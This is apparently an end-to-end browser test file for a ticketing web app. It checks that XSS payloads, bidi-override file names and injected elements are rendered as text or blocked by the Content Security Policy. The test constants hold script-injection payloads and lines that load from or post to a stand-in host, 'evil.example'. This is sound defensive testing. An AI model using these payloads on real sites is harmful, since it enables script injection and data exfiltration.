"""Text that would like to be more than text."""

from collections.abc import Callable

from playwright.sync_api import expect

from local.stack import LocalStack
from local.stack_file import Staff
from tests.e2e.browser import console
from tests.e2e.browser.conftest import OpenWindow
from tests.e2e.browser.panel import (
    Customer,
    choose_files,
    fill_ticket,
    picture,
    sign_in,
    submit_ticket,
    ticket_row,
    tile,
)
from tests.e2e.browser.window import PHONE, Window

OVERRIDE = "\N{RIGHT-TO-LEFT OVERRIDE}"
SUBJECT = f"<script>alert(1)</script> {OVERRIDE}cod.exe"
BODY = f"<img src=x onerror=alert(2)> {OVERRIDE}fdp"
FILE = f"<b onclick=alert(3)>{OVERRIDE}gnp.png"
CLEANED_FILE = "_b onclick=alert(3)_gnp.png"  # as it would be saved: names lose what file systems and eyes stumble over

# Whatever the text does with directions ends where the text ends: with its block, or with an isolating element.
_ENDS_WITH_ITS_TEXT = """element => {
  for (let it = element; it; it = it.parentElement) {
    const {unicodeBidi, display} = getComputedStyle(it);
    if (/isolate|plaintext/.test(unicodeBidi) || /block|grid|flex|table-cell/.test(display)) return true;
    if (it.nextSibling || it.previousSibling) return false;
  }
  return true;
}"""


def stands_as_text(window: Window, text: str) -> None:
    """The text is there letter by letter, and its directions do not reach beyond it."""
    found = window.page.get_by_role("main").get_by_text(text, exact=True).first
    expect(found).to_be_visible()
    assert found.evaluate(_ENDS_WITH_ITS_TEXT)
    assert window.page.locator("main script, main img[src=x], main b[onclick]").count() == 0


def test_markup_and_bidi_overrides_are_shown_as_text_everywhere(
    stack: LocalStack, open_window: OpenWindow, agent: Callable[[], Staff], sara: Customer
) -> None:
    hers = open_window(f"{stack.file.panel_url}sign-in?next=tickets%2Fnew", size=PHONE, name="hostile-customer")
    sign_in(hers, sara)
    fill_ticket(hers, SUBJECT, BODY)
    choose_files(hers, picture(FILE))
    expect(tile(hers, FILE).get_by_text(hers.words.panel.ready, exact=True)).to_be_visible()
    stands_as_text(hers, FILE)
    number = submit_ticket(hers)
    hers.page.get_by_role("link", name=hers.words.panel.tickets).click()
    stands_as_text(hers, SUBJECT)
    ticket_row(hers, SUBJECT).click()
    stands_as_text(hers, BODY)
    stands_as_text(hers, SUBJECT)
    hers.page.get_by_role("button", name=hers.words.panel.opens).click()
    expect(hers.page.get_by_role("dialog").get_by_role("heading")).to_have_text(CLEANED_FILE)
    hers.look("lightbox")

    his = open_window(stack.file.console_url, name="hostile-agent")
    console.sign_in(his, agent())
    stands_as_text(his, SUBJECT)
    his.page.goto(f"{stack.file.console_url}tickets/{number}")
    stands_as_text(his, SUBJECT)
    stands_as_text(his, BODY)
    his.look("ticket")


# What a page would try that somebody smuggled markup into, and the directive that forbids it.
_TRIES = """async () => {
  const seen = new Set();
  document.addEventListener("securitypolicyviolation", (event) => seen.add(event.effectiveDirective));
  const add = (tag, values, into = document.body) => into.append(Object.assign(document.createElement(tag), values));
  add("script", {textContent: "window.wasRun = true"});
  add("script", {src: "https://evil.example/a.js"});
  add("img", {src: "https://evil.example/a.png"});
  add("iframe", {src: "https://evil.example/"});
  add("object", {data: "https://evil.example/a.swf"});
  add("link", {rel: "stylesheet", href: "https://evil.example/a.css"});
  add("base", {href: "https://evil.example/"}, document.head);
  document.body.insertAdjacentHTML("beforeend", "<b id='tried' onclick='window.wasRun = true'></b>");
  document.getElementById("tried").click();
  const form = Object.assign(document.createElement("form"), {action: "https://evil.example/", method: "post"});
  document.body.append(form);
  form.submit();
  try { new Worker("data:text/javascript,"); } catch {}
  await fetch("https://evil.example/").catch(() => {});
  await new Promise((done) => setTimeout(done, 200));
  return {seen: [...seen].sort(), wasRun: window.wasRun, base: document.baseURI};
}"""
_FORBIDDEN = {
    "connect-src",
    "form-action",
    "frame-src",
    "img-src",
    "object-src",
    "script-src-attr",
    "script-src-elem",
    "style-src-elem",
    "worker-src",
}


def test_smuggled_markup_runs_loads_and_sends_nothing(stack: LocalStack, open_window: OpenWindow) -> None:
    for url in (stack.file.panel_url, stack.file.console_url):
        window = open_window(url)

        tried = window.page.evaluate(_TRIES)

        assert tried["wasRun"] is None
        assert set(tried["seen"]) >= _FORBIDDEN
        assert tried["base"].startswith(url)
        assert any("Content Security Policy" in wrong for wrong in window.wrongs)
        window.wrongs.clear()
